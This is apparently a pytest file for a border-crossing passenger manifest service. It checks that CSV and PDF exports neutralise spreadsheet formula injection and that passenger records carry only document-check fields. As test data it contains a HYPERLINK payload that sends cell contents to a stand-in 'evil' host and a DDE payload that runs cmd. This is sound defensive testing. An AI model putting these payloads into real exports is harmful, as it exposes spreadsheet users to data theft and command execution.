"""Manifest exports: no cell a spreadsheet would run as a formula (finding 8), and a manifest carries
only what a border post needs to check a traveller against the document in hand."""

from __future__ import annotations

import csv
import io
import uuid
import zlib
from datetime import UTC, date, datetime

import pytest

from contracts.transport import ManifestPassenger
from services.transport.domain import inert_cell, manifest_csv
from services.transport.pdf import manifest_pdf

# The two payloads of the security review, tried against a real export.
HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def passenger(surname: str, given_names: str = "Ali", number: str = "401234567") -> ManifestPassenger:
    return ManifestPassenger(
        case_id=uuid.uuid4(),
        person_id=uuid.uuid4(),
        surname=surname,
        given_names=given_names,
        birth_date=date(1990, 5, 1),
        sex="M",
        nationality="TJK",
        document_type="passport",
        document_number=number,
    )


@pytest.mark.parametrize(
    ("cell", "inert"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Karimov", "Karimov"),
        ("O'Neil", "O'Neil"),
        ("Nazarova-Karimova", "Nazarova-Karimova"),  # a hyphen inside a name is a name
        ("", ""),
    ],
)
def test_a_cell_starting_with_a_formula_prefix_is_made_text(cell: str, inert: str) -> None:
    assert inert_cell(cell) == inert


def test_the_review_s_payloads_come_out_of_the_csv_as_text() -> None:
    exported = manifest_csv([passenger(HYPERLINK, DDE), passenger("Karimov", "@Ali", "-401")])
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][2:4] == ["'" + HYPERLINK, "'" + DDE]
    assert rows[2][2:4] == ["Karimov", "'@Ali"]
    assert rows[2][-1] == "'-401"
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_the_pdf_shows_the_payloads_as_text_too() -> None:
    document = manifest_pdf(
        movement_id="MOV-1",
        vehicle_id="BUS-1",
        route="kaz-uzb-tjk",
        departure="2026-12-01",
        revision=1,
        passengers=[passenger("=CMD", "+Ali")],
        printed_at=datetime(2026, 12, 1, tzinfo=UTC),
        printed_by="kaz-duty",
    )
    text = b"".join(_streams(document))
    assert b"('=CMD)" in text and b"('+Ali)" in text


def _streams(document: bytes) -> list[bytes]:
    """The page content streams of an fpdf2 document (deflated), decompressed."""
    found, at = [], 0
    while (start := document.find(b"stream\n", at)) != -1:
        end = document.find(b"endstream", start)
        chunk = document[start + 7 : end].rstrip(b"\r\n")
        try:
            found.append(zlib.decompress(chunk))
        except zlib.error:
            found.append(chunk)
        at = end
    return found


def test_a_manifest_passenger_carries_only_what_a_post_checks_a_document_against() -> None:
    # Names, birth date, sex, nationality and the document: the fields of a machine-readable zone.
    # No phone number, address, vulnerability or health fact: a post does not need them, and a
    # new field here is personal data sent to every post on the route.
    assert set(ManifestPassenger.model_fields) == {
        "case_id",
        "person_id",
        "surname",
        "given_names",
        "birth_date",
        "sex",
        "nationality",
        "document_type",
        "document_number",
    }
